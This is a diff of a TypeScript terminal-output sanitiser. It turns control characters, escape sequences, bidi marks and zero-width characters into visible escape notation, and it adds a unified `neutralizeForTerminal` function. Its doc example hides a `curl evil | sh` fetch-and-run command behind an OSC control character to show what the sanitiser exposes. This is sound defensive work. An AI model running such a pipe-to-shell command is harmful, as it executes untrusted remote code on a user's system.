@@ -1,40 +1,67 @@
 /*
- * Everything in an event is untrusted: the agent read it from files and the
- * web. A terminal interprets C0 controls (ESC starts every escape sequence,
- * BEL ends OSC strings, CR returns to the start of the line), C1 controls
- * (U+009B is a one-character CSI for terminals that accept 8-bit controls,
- * and U+0080-U+009F are what UTF-8 C2 80..C2 9F decode to) and bidi
- * formatting characters (which reorder what a person sees). Each of them is
- * replaced with its escape notation, `\x1b` or `\u202e`, so it shows instead
- * of acting. Nothing else changes, so ordinary text passes through untouched.
+ * Everything that reaches a terminal from content is untrusted: an agent's
+ * text, a file it read, a command a repository wrote, a tool name, a
+ * diagnostic quoting a line of input, a file name on the command line. A
+ * terminal interprets C0 controls (ESC starts every escape sequence, BEL ends
+ * OSC strings, CR returns to the start of the line), C1 controls (U+009B is a
+ * one-character CSI for terminals that accept 8-bit controls, U+009D an OSC,
+ * U+0090 a DCS), bidi formatting characters (which reorder what a person
+ * sees) and zero-width characters (which hide that two strings differ). Each
+ * of them is replaced with its escape notation, `\x1b` or `\u202e`, so it
+ * shows instead of acting, and nothing is removed: the payload of an escape
+ * sequence stays on screen as the printable text it is, so a preview cannot
+ * hide part of a command. Nothing else changes.
  */
 
-// Tab, LF and CR followed by LF stay in text: they only lay text out.
-const UNSAFE_IN_TEXT = /[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]|\r(?!\n)/g;
-// A one-line field (a name, a preview, a summary) must not break its line either.
-const UNSAFE_IN_LINE = /[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/g;
+// C0 but TAB, LF and CR; DEL; C1; the bidi marks, embeddings, overrides and
+// isolates; zero-width space, word joiner and invisible operators; BOM; line
+// and paragraph separators (some terminals break lines at them).
+const ALWAYS = '\\x00-\\x08\\x0b\\x0c\\x0e-\\x1f\\x7f-\\x9f\\u061c\\u200b\\u200e\\u200f\\u2028-\\u202e\\u2060-\\u2064\\u2066-\\u2069\\ufeff';
+// ZWNJ and ZWJ join letters in Persian and Indic scripts and build emoji
+// sequences; next to ASCII (or alone) they only disguise an identifier or a
+// command, so there they are shown.
+const JOINER_BY_ASCII = '[\\u200c\\u200d](?:(?![\\u0080-\\uffff])|(?<![\\u0080-\\uffff][\\u200c\\u200d]))';
+// Tab, LF and CR followed by LF lay text out; a lone CR would overwrite the line.
+const UNSAFE_IN_TEXT = new RegExp(`[${ALWAYS}]|\\r(?!\\n)|${JOINER_BY_ASCII}`, 'g');
+// A one-line field must not break its line either.
+const UNSAFE_IN_LINE = new RegExp(`[${ALWAYS}\\t\\n\\r]|${JOINER_BY_ASCII}`, 'g');
 
 function visible(char: string): string {
   const code = char.charCodeAt(0);
   return code <= 0xff ? `\\x${code.toString(16).padStart(2, '0')}` : `\\u${code.toString(16).padStart(4, '0')}`;
 }
 
-/**
- * Neutralises control characters and escape sequences in streamed text: every
- * C0 control except tab and newline, a CR that is not part of a CRLF, DEL, C1
- * controls and bidi formatting characters become visible escape notation
- * (`ESC[2J` shows as `\x1b[2J`). Text without such characters is returned
- * unchanged.
- */
-export function sanitizeText(text: string): string {
-  return text.replace(UNSAFE_IN_TEXT, visible);
-}
+/** How {@link neutralizeForTerminal} treats layout characters. */
+export type TerminalLayout = 'line' | 'text';
 
 /**
- * Like {@link sanitizeText} for a field shown on one line (a tool name, an
- * argument preview, an error message): newlines, tabs and every CR become
- * visible escape notation too.
+ * The one gate for every string from content that is written to a terminal,
+ * by the terminal renderer and by `xview` on standard output and standard
+ * error alike. C0 and C1 controls, DEL, the ESC of every escape sequence
+ * (CSI, OSC, DCS, SOS, PM, APC and two-character ones), bidi controls and
+ * zero-width characters become visible escape notation (`\x1b`, `\u202e`);
+ * nothing is executed and nothing is removed.
+ *
+ * `'line'` (the default), for a field shown on one line (a name, a preview,
+ * a reason, a file name): TAB, LF and CR are made visible too. `'text'`, for
+ * text that flows over lines: TAB, LF and CRLF stay, a lone CR is made
+ * visible. A string without such characters is returned unchanged.
+ *
+ * @example
+ * ```ts
+ * neutralizeForTerminal('npm test\u009d; curl evil | sh\u0007'); // 'npm test\\x9d; curl evil | sh\\x07'
+ * ```
  */
+export function neutralizeForTerminal(text: string, layout: TerminalLayout = 'line'): string {
+  return text.replace(layout === 'text' ? UNSAFE_IN_TEXT : UNSAFE_IN_LINE, visible);
+}
+
+/** {@link neutralizeForTerminal} with the `'text'` layout: for text that flows over lines. */
+export function sanitizeText(text: string): string {
+  return neutralizeForTerminal(text, 'text');
+}
+
+/** {@link neutralizeForTerminal} with the `'line'` layout: for a field shown on one line. */
 export function sanitizeLine(text: string): string {
-  return text.replace(UNSAFE_IN_LINE, visible);
+  return neutralizeForTerminal(text, 'line');
 }
